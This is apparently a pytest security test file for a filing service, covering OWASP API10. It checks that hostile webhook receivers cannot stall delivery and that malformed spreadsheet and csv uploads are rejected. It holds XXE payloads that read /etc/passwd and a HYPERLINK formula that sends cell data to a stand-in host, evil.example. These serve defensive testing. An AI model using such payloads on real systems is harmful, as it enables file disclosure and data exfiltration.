"""OWASP API10:2023 Unsafe Consumption of APIs.

What the service takes in from others and must not trust, against the live app:
  - webhook receivers' answers (service/webhooks/delivery.py): the body is never read --
    an answer declaring 10 GiB and streaming zeros is logged as delivered at once; a
    receiver that accepts and never answers costs one attempt its cap (ATTEMPT_SECONDS,
    shortened here) and no more, and the worker goes on to the next delivery; an answer
    that is not HTTP at all is a logged failure with a bounded error text, not a crash;
  - uploaded files (POST /v1/filings/import): a truncated workbook, a zip of something
    else, a workbook without its parts, a sheet of broken XML, a sheet with an external
    entity (XXE), random bytes, a PDF, a csv with NUL bytes, a csv in neither UTF-8 nor
    GB 18030, a UTF-16 csv, a csv field larger than the csv module's limit -- each a 422
    problem document, never a 500, nothing written, nothing of /etc/passwd echoed;
  - formula cells are read as the values the file holds, never evaluated: a formula
    without a cached value reads as empty, one with a cached value reads as that value,
    and `=HYPERLINK(...)`/`=1+1` typed into a csv are refused as the text they are.
GB 18030 and UTF-8 csv files are read (tests/e2e/test_filing_import.py).
"""

from __future__ import annotations

import asyncio
import codecs
import io
import socket
import threading
import time
import uuid
from collections.abc import Iterator

import httpx
import openpyxl
import pytest

from domain.organisations import OrgKind
from domain.webhooks import EventType
from service.db.engine import make_engine, make_sessionmaker
from service.settings import Settings
from service.webhooks import delivery
from service.webhooks.delivery import DeliveryWorker
from service.webhooks.outbox import emit
from tests.helpers import Api, Caller
from tests.owasp.common import app_with, assert_problem, row_counts
from tests.owasp.files import entries, rebuild, sheet_of
from tests.workbooks import XLSX, cement_rows, csv_file, xlsx

# --- webhook receivers ---------------------------------------------------------------------


class RawReceiver:
    """A TCP server on localhost that reads each request's head, then behaves as `mode` says."""

    def __init__(self, mode: str) -> None:
        self.mode, self.requests = mode, 0
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/hook"
        self.stop = threading.Event()
        self.held: list[socket.socket] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn: socket.socket) -> None:
        data = b""
        conn.settimeout(5)
        try:
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    return
                data += chunk
            self.requests += 1
            if self.mode == "huge":
                conn.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 10737418240\r\n\r\n"
                )
                zeros = b"\0" * 65536
                deadline = time.monotonic() + 10
                while not self.stop.is_set() and time.monotonic() < deadline:
                    conn.sendall(zeros)  # until the worker hangs up
            elif self.mode == "stall":
                self.held.append(conn)  # accept, read, never answer
                self.stop.wait(30)
            elif self.mode == "garbage":
                conn.sendall(b"\x16\x03\x01 this is not HTTP " + b"\xff" * 5000 + b"\r\n\r\n")
            else:
                conn.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
        except OSError:
            pass
        finally:
            if conn not in self.held:
                conn.close()

    def close(self) -> None:
        self.stop.set()
        self.sock.close()
        for conn in self.held:
            conn.close()


@pytest.fixture
def receivers() -> Iterator[dict[str, RawReceiver]]:
    made = {mode: RawReceiver(mode) for mode in ("stall", "huge", "garbage", "good")}
    yield made
    for r in made.values():
        r.close()


async def _emit_and_run_once(settings: Settings, bank: Caller) -> float:
    engine = make_engine(settings.app_database_url, pool_size=2)
    try:
        sessionmaker = make_sessionmaker(engine)
        async with sessionmaker() as db, db.begin():
            data = {"rating_id": str(uuid.uuid4()), "uscc": "x", "year": 2023}
            await emit(db, [(uuid.uuid4(), EventType.RATING_ISSUED, data)], only_bank=uuid.UUID(bank.org_id))
        worker = DeliveryWorker(sessionmaker, settings)
        try:
            started = time.monotonic()
            assert await worker.run_once() == 4
            return time.monotonic() - started
        finally:
            await worker.close()
    finally:
        await engine.dispose()


def test_receiver_answers_are_not_read_and_cannot_stall_the_worker(
    shared_settings: Settings, receivers: dict[str, RawReceiver], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(delivery, "ATTEMPT_SECONDS", 1)
    with app_with(shared_settings, webhook_allow_insecure=True, webhook_retry_scale=0.0) as api:
        bank = api.admin_created(api.bootstrap(OrgKind.ADMIN), "bank")
        hooks = {}
        for mode in ("stall", "huge", "garbage", "good"):  # the stalling one is attempted first
            r = api.client.post(
                "/v1/webhooks", json={"url": receivers[mode].url, "events": ["rating.issued"]}, headers=bank.headers
            )
            assert r.status_code == 201, r.text
            hooks[mode] = r.json()["id"]
        took = asyncio.run(_emit_and_run_once(api.settings, bank))
        log = {}
        for mode, hook in hooks.items():
            (d,) = api.client.get(f"/v1/webhooks/{hook}/deliveries", headers=bank.headers).json()
            log[mode] = (d["status"], d["log"][0]["status_code"], d["log"][0]["error"], d["log"][0]["duration_ms"])
    assert took < 4.0, f"one pass took {took:.1f} s: {log}"
    assert all(receivers[m].requests == 1 for m in hooks), {m: r.requests for m, r in receivers.items()}
    assert log["good"][:3] == ("delivered", 204, None), log
    assert log["huge"][:3] == ("delivered", 200, None) and log["huge"][3] < 2000, log  # the 10 GiB never read
    assert log["stall"][:3] == ("pending", None, "no answer within 1 s"), log
    status, code, error, _ = log["garbage"]
    assert (status, code) == ("pending", None) and error and len(error) <= 500, log


# --- uploaded files ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def filer(shared: Api) -> Caller:
    regulator = shared.bootstrap(OrgKind.REGULATOR)
    ent, _ = shared.register()
    shared.decide(regulator, ent.uscc or "", "approve")
    return ent


def _import(api: Api, who: Caller, body: bytes, media: str, dry_run: bool = False) -> httpx.Response:
    headers = {**who.headers, "Content-Type": media}
    return api.client.post(f"/v1/filings/import?dry_run={str(dry_run).lower()}", content=body, headers=headers)


def test_malformed_uploads_are_422_problems_and_write_nothing(shared: Api, filer: Caller) -> None:
    book = xlsx(cement_rows(filer.uscc or ""))
    sheet = sheet_of(book, "能源")
    text = csv_file(cement_rows(filer.uscc or "")).decode("utf-8-sig")
    xxe = (
        b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
    )
    workbook_xml = entries(book)["xl/workbook.xml"]
    xxe_workbook = workbook_xml.replace(
        b"<workbook ", b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><workbook ', 1
    ).replace('name="能源"'.encode(), b'name="&xxe;"', 1)
    cases = {
        "a truncated workbook": (book[: len(book) // 2], XLSX),
        "a zip of a text file": (rebuild(book, {n: None for n in entries(book)} | {"readme.txt": b"hello"}), XLSX),
        "a workbook without [Content_Types].xml": (rebuild(book, {"[Content_Types].xml": None}), XLSX),
        "a workbook without its sheets": (rebuild(book, {n: None for n in entries(book) if "worksheets" in n}), XLSX),
        "a sheet of broken XML": (rebuild(book, {sheet: b"<worksheet><sheetData><row>"}), XLSX),
        "a sheet with an external entity": (rebuild(book, {sheet: xxe}), XLSX),
        "a workbook naming a sheet by an external entity": (rebuild(book, {"xl/workbook.xml": xxe_workbook}), XLSX),
        "random bytes": (bytes(range(256)) * 64, XLSX),
        "a PDF as a workbook": (b"%PDF-1.7\n" + b"0" * 1000, XLSX),
        "a csv with NUL bytes in a USCC and a number": (
            text.replace(filer.uscc or "", (filer.uscc or "") + "\0", 1).replace("100000", "10\x000000", 1).encode(),
            "text/csv",
        ),
        "a csv of NUL bytes": (b"\0" * 5000, "text/csv"),
        "a csv in neither UTF-8 nor GB 18030": (b"\xff\xfe\xfd\x80\x81" * 200, "text/csv"),
        "a UTF-16 csv": (codecs.BOM_UTF16_LE + text.encode("utf-16-le"), "text/csv"),
        "a csv field over the csv module's limit": (
            ("表 sheet,uscc\n能源," + "9" * 200_000 + "\n").encode(),
            "text/csv",
        ),
        "a csv with an unterminated quote": (('表 sheet,uscc\n能源,"' + "9" * 100).encode(), "text/csv"),
    }
    counts = row_counts(shared.settings)
    problems = []
    for label, (body, media) in cases.items():
        r = _import(shared, filer, body, media)
        if r.status_code != 422:
            problems.append(f"{label}: {r.status_code} {r.text[:160]}")
            continue
        assert_problem(r, 422)
        if "root:" in r.text or "/bin/" in r.text:
            problems.append(f"{label}: echoes /etc/passwd")
    assert not problems, "\n".join(problems)
    assert row_counts(shared.settings) == counts


def _with_formula_sheet(book: bytes, cell_xml: bytes) -> bytes:
    """The 填报 sheet's value-added cell (D2) replaced by `cell_xml`."""
    part = sheet_of(book, "填报")
    xml = entries(book)[part]
    start = xml.index(b'<c r="D2"')
    end = xml.index(b"</c>", start) + len(b"</c>")
    return rebuild(book, {part: xml[:start] + cell_xml + xml[end:]})


def _content(api: Api, who: Caller, r: httpx.Response) -> dict[str, object]:
    assert r.status_code == 201, r.text
    (created,) = r.json()["created"]
    return dict(api.client.get(f"/v1/filings/{created['id']}", headers=who.headers).json()["content"])


def test_formula_cells_are_read_as_values_never_evaluated(shared: Api, filer: Caller) -> None:
    uscc = filer.uscc or ""
    rows = cement_rows(uscc, period=2025)
    rows["填报"][0][3] = "=1+1"  # openpyxl writes these as formulas with no cached value
    rows["填报"][0][4] = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    book = xlsx(rows)
    held = next(openpyxl.load_workbook(io.BytesIO(book), read_only=True)["填报"].iter_rows(min_row=2, values_only=True))
    assert held[3:5] == ("=1+1", rows["填报"][0][4])  # what the file holds
    content = _content(shared, filer, _import(shared, filer, book, XLSX))
    assert (content["value_added_wan"], content["output_value_wan"]) == (None, None), content  # not 2, no link
    cached = _with_formula_sheet(xlsx(cement_rows(uscc, period=2026)), b'<c r="D2"><f>1+1</f><v>43210</v></c>')
    content = _content(shared, filer, _import(shared, filer, cached, XLSX))
    assert content["value_added_wan"] == "43210", content  # the value the file holds, not a recomputed 2
    # in a csv a formula is only text: refused where a number is due, nothing written
    counts = row_counts(shared.settings)
    rows = cement_rows(uscc, period=2027)
    rows["填报"][0][3] = "=1+1"
    rows["产品"][0][3] = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    doc = assert_problem(_import(shared, filer, csv_file(rows), "text/csv"), 422)
    found = {(p["sheet"], p["column"]) for p in doc["problems"]}
    assert found == {("填报", "value_added_wan"), ("产品", "output")}, doc["problems"]
    assert all("number" in p["detail"] for p in doc["problems"]), doc["problems"]
    assert row_counts(shared.settings) == counts
